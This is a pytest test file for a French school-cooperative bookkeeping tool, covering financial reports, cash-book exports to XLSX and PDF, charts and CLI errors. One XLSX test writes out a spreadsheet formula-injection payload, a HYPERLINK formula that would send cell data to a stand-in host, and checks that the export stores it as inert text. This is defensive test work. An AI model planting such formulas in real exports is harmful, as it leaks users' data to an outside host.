"""CRF and cahier: data (SQLite and PostgreSQL) and real PDFs read back with pdftotext/pdftoppm."""
from __future__ import annotations

import html as html_mod
import re
import subprocess
from datetime import datetime
from pathlib import Path

import pytest

from retkoop_widgets.domain.crf import crf_json
from retkoop_widgets.domain.money import format_eur
from retkoop_widgets.domain.entry import EntryDraft, VentilationLine as V
from retkoop_widgets.reports import views

from known_year import COOP, EX, EXPECTED, plain, seed_known_year

GEN = datetime(2026, 9, 15, 10, 30)


def pdf_text(pdf: bytes, tmp_path: Path, layout: bool = False) -> str:
    f = tmp_path / "doc.pdf"
    f.write_bytes(pdf)
    args = ["pdftotext"] + (["-layout"] if layout else []) + [str(f), "-"]
    return plain(subprocess.run(args, check=True, capture_output=True, text=True).stdout)


def page_is_not_blank(pdf: bytes, tmp_path: Path, page: int = 1) -> float:
    """Render a page to PNG with pdftoppm; return the share of non-white pixels."""
    from PIL import Image
    f = tmp_path / "doc.pdf"
    f.write_bytes(pdf)
    subprocess.run(["pdftoppm", "-png", "-r", "40", "-f", str(page), "-l", str(page), str(f), str(tmp_path / "p")],
                   check=True)
    png = next(tmp_path.glob("p-*.png"))
    img = Image.open(png).convert("L")
    dark = sum(1 for v in img.getdata() if v < 200)
    return dark / (img.width * img.height)


def pages(pdf: bytes) -> int:
    import io
    from pypdf import PdfReader
    return len(PdfReader(io.BytesIO(pdf)).pages)


# ---------------------------------------------------------------- data (both backends)
def test_crf_blocks_show_the_known_totals_in_french(books):
    seed_known_year(books)
    d = views.load_crf(books, COOP, EX)
    html = plain(" ".join(views.crf_blocks(d, GEN)))
    for key in ("total_produits", "total_charges", "resultat", "closing_bank", "closing_cash", "closing_total",
                "statement", "subsidies", "big_expense", "opening_total"):
        assert EXPECTED[key] in html, key
    assert "Déficit" in html and "✓ égalité vérifiée" in html and "✓ concordant" in html
    assert "Caisse juste" in html
    assert "Projet" in html and "Édité le 15/09/2026 à 10:30" in html
    # the three unpointed bank lines are listed in the reconciliation table, not the pointed ones
    recon = html_mod.unescape(views.reconciliation_html(d.crf))
    assert "Spectacle de Noël" in recon and "Frais de tenue de compte" in recon and "Remise d'espèces" in recon
    assert "Facture OCCE" not in recon


def test_crf_json_is_what_report_json_prints(books, capsys, monkeypatch):
    import json
    from retkoop_widgets import cli
    seed_known_year(books)
    monkeypatch.setenv("RETKOOP_DB_URL", books.engine.url.render_as_string(hide_password=False))
    assert cli.main(["report", COOP, EX, "--format", "json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out == json.loads(json.dumps(crf_json(books.crf(COOP, EX))))
    assert out["total_charges"] == "2580.60" and out["resultat"] == "-366.40"


def test_cahier_pages_carry_totals_forward(books):
    seed_known_year(books)
    lines = books.cahier(COOP, EX)
    blocks = views.cahier_pages(lines, books.chart(COOP), books.exercice(COOP, EX), books.coop_info(COOP),
                                GEN, rows_per_page=3)
    assert len(blocks) == 3  # 8 lines, 3 per page
    txt = [plain(b) for b in blocks]
    assert "À reporter" in txt[0] and "Report (pages précédentes)" in txt[1]
    # page 1 holds 001-003: bank receipts 1 250,00 + 600,00 carried to page 2
    carry1 = re.search(r"À reporter</td>(.*?)</tr>", txt[0]).group(1)
    report2 = re.search(r"Report \(pages précédentes\)</td>(.*?)</tr>", txt[1]).group(1)
    assert "1 850,00" in carry1 and carry1 == report2
    last = re.search(r"Totaux de l'exercice</td>(.*?)</tr>", txt[2]).group(1)
    assert "1 460,27" in last and "79,20" in last  # closing balances
    assert "2 150,00" in last  # bank receipts: 1 250 + 600 + 300
    assert "2 532,10" in last  # bank payments: 174,50 + 2 345,60 + 12
    # ventilation by rubric: one column per rubric used
    assert "Cotisations et assurance OCCE" in blocks[0] and "Subventions" in blocks[0]


def test_cahier_xlsx_has_numbers_and_dates(books, tmp_path, monkeypatch):
    from openpyxl import load_workbook
    from retkoop_widgets import cli
    seed_known_year(books)
    monkeypatch.setenv("RETKOOP_DB_URL", books.engine.url.render_as_string(hide_password=False))
    out = tmp_path / "c.xlsx"
    assert cli.main(["cahier", COOP, EX, "--format", "xlsx", "-o", str(out)]) == 0
    ws = load_workbook(out).active
    assert ws["A2"].is_date and ws["A2"].value.date().isoformat() == "2025-09-12"
    assert ws["G2"].value == 1250 and "€" in ws["G2"].number_format
    head = [c.value for c in ws[1]]
    col = head.index("Solde banque") + 1
    assert float(ws.cell(row=9, column=col).value) == pytest.approx(1460.27)


def test_cahier_xlsx_keeps_typed_text_as_text_and_totals_as_formulas(books):
    """A libellé typed as a formula must not run when the AD opens the export."""
    from datetime import date
    from io import BytesIO
    from openpyxl import load_workbook
    from retkoop_widgets.reports.xlsx import cahier_xlsx
    typed = '=HYPERLINK("http://x.example/?"&A1;"Facture")'
    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 3), typed, tiers="=1+1", mode="virement",
                                            bank_out=17450, ventilation=(V("6281", 17450),)))
    ws = load_workbook(BytesIO(cahier_xlsx(books.cahier(COOP, EX), books.chart(COOP)))).active
    assert (ws["C2"].value, ws["C2"].data_type) == (typed, "s")
    assert (ws["D2"].value, ws["D2"].data_type) == ("=1+1", "s")
    totals = ws[ws.max_row]
    assert totals[0].value == "Totaux" and any(c.data_type == "f" and c.value.startswith("=SUM(") for c in totals)


# ---------------------------------------------------------------- real PDFs (SQLite)
@pytest.fixture
def sqlite_books(tmp_path, clock):
    from retkoop_widgets.services import Books
    from retkoop_widgets.storage.schema import upgrade
    from retkoop_widgets.storage.db import get_engine
    url = f"sqlite:///{tmp_path / 'r.sqlite3'}"
    upgrade(get_engine(url))
    b = Books(url, "test", today=clock.today, now=clock.now)
    b.add_ad("AD76", "OCCE Seine-Maritime")
    b.add_coop(COOP, "École des Tilleuls", "AD76")
    b.open_exercice(COOP, EX, 184237, 6350)
    return b


def test_crf_pdf_has_the_right_totals_and_a_page_one_that_is_not_blank(sqlite_books, tmp_path):
    from retkoop_widgets.reports import render_crf_pdf
    seed_known_year(sqlite_books)
    pdf = render_crf_pdf(sqlite_books, COOP, EX)
    assert pdf[:5] == b"%PDF-"
    text = pdf_text(pdf, tmp_path)
    for key, value in EXPECTED.items():
        assert value in text, key
    assert "COMPTE RENDU FINANCIER" in text and "École des Tilleuls" in text and "AD76-0421" in text
    n = pages(pdf)
    assert f"Page 1 / {n}" in text and f"Page {n} / {n}" in text
    assert "non soumis" in text and re.search(r"Édité le \d\d/\d\d/\d{4}", text)
    for heading in ("Comptes de fonctionnement", "Bilan simplifié", "Rapprochement bancaire", "Arrêté de caisse",
                    "Subventions publiques", "Vérification et quitus", "Graphiques"):
        assert heading in text
    assert page_is_not_blank(pdf, tmp_path) > 0.02


def test_cahier_pdf_paginates_with_report_rows(sqlite_books, tmp_path):
    from datetime import date
    from retkoop_widgets.reports import render_cahier_pdf
    seed_known_year(sqlite_books, cash_count=False, subsidy=False)
    # 32 more small receipts: 40 lines, so two pages of 24 rows
    sqlite_books.import_drafts(COOP, EX, [(f"l{i}", EntryDraft(date(2026, 2, 1 + i % 27), f"Vente {i}", mode="chèque",
                                                                bank_in=1000, ventilation=(V("7071", 1000),)))
                                          for i in range(32)])
    pdf = render_cahier_pdf(sqlite_books, COOP, EX)
    assert pages(pdf) == 2
    page1, page2 = pdf_text(pdf, tmp_path, layout=True).split("\f")[:2]
    assert "À reporter" in page1 and "Report (pages précédentes)" in page2 and "Totaux de l'exercice" in page2
    assert "Page 1 / 2" in page1 and "Page 2 / 2" in page2
    # the bank receipts of page 1's 24 lines are carried to page 2
    first24 = sqlite_books.cahier(COOP, EX)[:24]
    carried = plain(format_eur(sum(ln.entry.bank_in for ln in first24), symbol=False))
    a_reporter = next(line for line in page1.splitlines() if "À reporter" in line)
    report = next(line for line in page2.splitlines() if "Report (pages précédentes)" in line)
    assert carried in a_reporter and carried in report
    assert "1 780,27" in page2  # closing bank: 1 460,27 + 32 × 10,00
    assert page_is_not_blank(pdf, tmp_path) > 0.02


def test_missing_exercice_is_refused_in_french(sqlite_books):
    from retkoop_widgets.domain.errors import NotFound
    from retkoop_widgets.reports import render_crf_pdf
    with pytest.raises(NotFound, match="2024-2025"):
        render_crf_pdf(sqlite_books, COOP, "2024-2025")


def test_exporter_is_declared_as_an_nbconvert_entry_point():
    import importlib
    import tomllib
    eps = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())["project"]["entry-points"]
    target = eps["nbconvert.exporters"]["retkoop_pdf"]
    mod, cls = target.split(":")
    exporter = getattr(importlib.import_module(mod), cls)()
    assert exporter.output_mimetype == "application/pdf" and exporter.exclude_input


def test_missing_coop_in_the_cli_pdf_is_a_french_line_from_the_kernel(sqlite_books, monkeypatch, capsys, tmp_path):
    """The CLI renders as the system actor without a Books of its own: the refusal comes
    from the report kernel, with the same French sentence and exit code 1."""
    from retkoop_widgets import cli
    monkeypatch.setenv("RETKOOP_DB_URL", sqlite_books.engine.url.render_as_string(hide_password=False))
    assert cli.main(["report", "AD76-9999", EX, "--format", "pdf", "-o", str(tmp_path / "x.pdf")]) == 1
    err = capsys.readouterr().err
    assert "coopérative « AD76-9999 » inconnue" in err and "Traceback" not in err
    assert not (tmp_path / "x.pdf").exists()


def test_a_broken_invariant_inside_the_kernel_is_reported_as_such(monkeypatch):
    from nbclient.exceptions import CellExecutionError
    from retkoop_widgets.domain.errors import InvariantBreach
    from retkoop_widgets.reports.runner import ReportKernel
    k = ReportKernel.__new__(ReportKernel)  # no process: only the error mapping is under test

    def boom(nb):
        raise CellExecutionError("trace", "InvariantBreach", "report + résultat ≠ disponibilités")
    monkeypatch.setattr(k, "_run", boom)
    with pytest.raises(InvariantBreach, match="≠ disponibilités"):
        k.execute("crf", coop=COOP, exercice=EX)


# ---------------------------------------------------------------- the dashboard's route: a child process
def test_dashboard_pdf_renders_in_a_child_and_this_process_loads_no_renderer(sqlite_books, tmp_path):
    """What the Exports button calls must leave the caller (the dashboard's kernel) without
    WeasyPrint, nbconvert or jupyter_client: checked in a fresh interpreter."""
    import sys
    seed_known_year(sqlite_books)
    url = sqlite_books.engine.url.render_as_string(hide_password=False)
    script = (
        "import sys\n"
        "from retkoop_widgets.services import Books\n"
        "from retkoop_widgets.reports import render_crf_pdf\n"
        f"pdf = render_crf_pdf(Books({url!r}, 'test'), {COOP!r}, {EX!r})\n"
        "assert pdf[:5] == b'%PDF-', pdf[:40]\n"
        "print(sorted(m for m in ('weasyprint', 'nbconvert', 'jupyter_client', 'nbclient', 'nbformat')"
        " if m in sys.modules))\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[]"


def test_dashboard_pdf_permission_is_checked_before_any_child_starts(sqlite_books, monkeypatch):
    import retkoop_widgets.reports as reports
    from retkoop_widgets.domain.actor import MANDATAIRE, Actor
    from retkoop_widgets.domain.errors import Forbidden
    monkeypatch.setattr(reports.subprocess, "run", lambda *a, **k: pytest.fail("a child was started"))
    other = sqlite_books.as_user(Actor("autre", MANDATAIRE, coop="AD76-0999"))
    with pytest.raises(Forbidden):
        reports.render_crf_pdf(other, COOP, EX)
    with pytest.raises(Forbidden):
        reports.render_cahier_pdf(other, COOP, EX)


def test_a_child_failure_comes_back_as_its_french_message(sqlite_books, monkeypatch, tmp_path):
    from retkoop_widgets.reports import ReportError, render_cahier_pdf
    monkeypatch.setenv("RETKOOP_NOTEBOOKS_DIR", str(tmp_path))  # no templates there
    with pytest.raises(ReportError) as e:
        render_cahier_pdf(sqlite_books, COOP, EX)
    assert str(e.value).startswith("modèle de rapport introuvable : cahier.ipynb") and "Traceback" not in str(e.value)


def test_render_pdf_in_this_process_checks_then_renders(sqlite_books):
    from retkoop_widgets.domain.actor import MANDATAIRE, Actor
    from retkoop_widgets.domain.errors import Forbidden
    from retkoop_widgets.reports import render_pdf
    seed_known_year(sqlite_books)
    assert render_pdf("cahier", sqlite_books, COOP, EX)[:5] == b"%PDF-"
    with pytest.raises(Forbidden):
        render_pdf("crf", sqlite_books.as_user(Actor("autre", MANDATAIRE, coop="AD76-0999")), COOP, EX)


# ---------------------------------------------------------------- charts (hand-written SVG)
def test_nice_ticks_are_round_euros_covering_the_data():
    from retkoop_widgets.reports.charts import euro_tick, nice_ticks
    assert nice_ticks(0, 345640, 4) == [0, 100000, 200000, 300000, 400000]
    assert nice_ticks(-50000, 120000, 5) == [-50000, 0, 50000, 100000, 150000]
    assert nice_ticks(0, 0) == [0, 2000, 4000, 6000, 8000, 10000]  # no data: 0 to 100 €
    assert nice_ticks(0, 150, 4) == [0, 100, 200]  # never a step below 1 €
    assert plain(euro_tick(250000)) == "2 500 €"


def test_rubric_chart_draws_one_bar_per_rubric_and_escapes_labels():
    import xml.etree.ElementTree as ET
    from retkoop_widgets.reports.charts import rubric_chart
    svg = rubric_chart([("Charges par rubrique", [("Sorties <&> voyages", 345640), ("Remboursement", -5000)], "#b00"),
                        ("Produits par rubrique", [], "#00b")])
    root = ET.fromstring(svg)  # well-formed XML despite the « <&> » in a rubric
    ns = "{http://www.w3.org/2000/svg}"
    bars = [r for r in root.iter(f"{ns}rect") if r.get("fill") == "#b00"]
    assert len(bars) == 2
    texts = [t.text for t in root.iter(f"{ns}text")]
    assert "Sorties <&> voyages" in texts and "aucun montant" in texts
    assert "3 456,40" in [plain(t or "") for t in texts]  # each bar carries its amount
    zero = [ln for ln in root.iter(f"{ns}line") if ln.get("x1") == ln.get("x2")]
    neg = next(b for b in bars if float(b.get("width")) < float(bars[0].get("width")))
    assert float(neg.get("x")) < float(zero[-1].get("x1"))  # a negative rubric goes left of zero


def test_treasury_chart_plots_twelve_month_ends_per_series(books):
    import xml.etree.ElementTree as ET
    seed_known_year(books)
    crf = books.crf(COOP, EX)
    months, bank, cash = views.month_end_balances(crf, books.cahier(COOP, EX))
    assert months == [9, 10, 11, 12, 1, 2, 3, 4, 5, 6, 7, 8]
    assert bank[0] == 184237 + 125000 and bank[-1] == 146027 and cash[-1] == 7920
    from retkoop_widgets.reports.charts import treasury_chart
    root = ET.fromstring(treasury_chart(months, bank, cash))
    lines = list(root.iter("{http://www.w3.org/2000/svg}polyline"))
    assert [len(p.get("points").split()) for p in lines] == [12, 12]


@pytest.mark.parametrize("code, refusal, stderr, shown, hidden", [
    (1, {"error": "ValidationError", "message": "l'exercice 2025-2026 n'est pas ouvert",
         "problems": [{"message": "l'exercice 2025-2026 n'est pas ouvert", "field": "exercice", "where": {"text": ""}}]},
     "retkoop : refusé :\n  - l'exercice 2025-2026 n'est pas ouvert\n", "n'est pas ouvert", None),
    (2, None, "retkoop : erreur inattendue (OperationalError) : connection to server at \"10.0.0.5\", port 5432 "
              "failed: FATAL: too many clients\n", "réessayez, puis prévenez votre AD", "10.0.0.5"),
    (3, None, "retkoop : incohérence interne détectée, merci de la signaler : AD76-0421 opening 1 + 2 != 4\n",
     "réessayez, puis prévenez votre AD", "opening"),
])
def test_the_pdf_childs_refusals_reach_the_page_but_not_its_internal_errors(books, monkeypatch, code, refusal, stderr,
                                                                             shown, hidden):
    """The dashboard renders through the CLI in a child process: a refusal written for
    people (exit 1) is shown as is; an unexpected error (database host, SQL, paths) or an
    internal inconsistency becomes a plain French sentence, its text kept for the log.
    What the child says comes from the JSON result it writes (``--result FILE``), as the
    real CLI writes it; its stderr is for the log only."""
    import json
    import subprocess
    from retkoop_widgets import reports

    def child(argv, **kw):
        with open(argv[argv.index("--result") + 1], "w", encoding="utf-8") as f:
            json.dump({"ok": False, "exit": code, "refusal": refusal}, f)
        return subprocess.CompletedProcess(argv, code, stdout=b"", stderr=stderr.encode())
    seed_known_year(books)
    monkeypatch.setattr(subprocess, "run", child)
    with pytest.raises(reports.ReportError) as err:
        reports.render_crf_pdf(books, COOP, EX)
    assert shown in str(err.value)
    if hidden:
        assert hidden not in str(err.value)


def test_a_refusal_from_the_pdf_child_keeps_its_problems_located(books, monkeypatch):
    """The child's refusal travels as data: each problem keeps its field and its location in
    parts (line, pièce), not a sentence the dashboard would have to parse back."""
    import json
    import subprocess
    from retkoop_widgets import reports
    from retkoop_widgets.domain.errors import Location, Problem, ValidationError, refusal_record
    said = ValidationError([Problem("montant illisible", "montant", Location(12, piece="D014")),
                            Problem("exercice inconnu", "exercice")])

    def child(argv, **kw):
        with open(argv[argv.index("--result") + 1], "w", encoding="utf-8") as f:
            json.dump({"ok": False, "exit": 1, "refusal": refusal_record(said)}, f)
        return subprocess.CompletedProcess(argv, 1, stdout=b"", stderr=b"retkoop : this text is not read\n")
    seed_known_year(books)
    monkeypatch.setattr(subprocess, "run", child)
    with pytest.raises(reports.ReportError) as err:
        reports.render_crf_pdf(books, COOP, EX)
    assert "this text is not read" not in str(err.value)
    first, second = err.value.problems
    assert (first.message, first.field, first.where.line, first.where.piece) == ("montant illisible", "montant", 12,
                                                                                 "D014")
    assert str(first) == "ligne 12 (pièce D014) : montant illisible" and str(second) == "exercice inconnu"


def test_the_cli_writes_its_outcome_as_json_for_a_program_that_runs_it(tmp_path):
    """``retkoop --result FILE``: the outcome as data (the dashboard's PDF child is read this way)."""
    import json
    from retkoop_widgets import cli
    out = tmp_path / "result.json"
    db = f"sqlite:///{tmp_path / 'r.sqlite3'}"
    assert cli.main(["--db", db, "--result", str(out), "init"]) == 0
    assert json.loads(out.read_text()) == {"ok": True, "exit": 0, "refusal": None}
    assert cli.main(["--db", db, "--result", str(out), "report", "--format", "json", "AD00-0000", "2025-2026"]) == 1
    result = json.loads(out.read_text())
    assert result["ok"] is False and result["exit"] == 1
    assert result["refusal"]["error"] == "NotFound" and "AD00-0000" in result["refusal"]["message"]
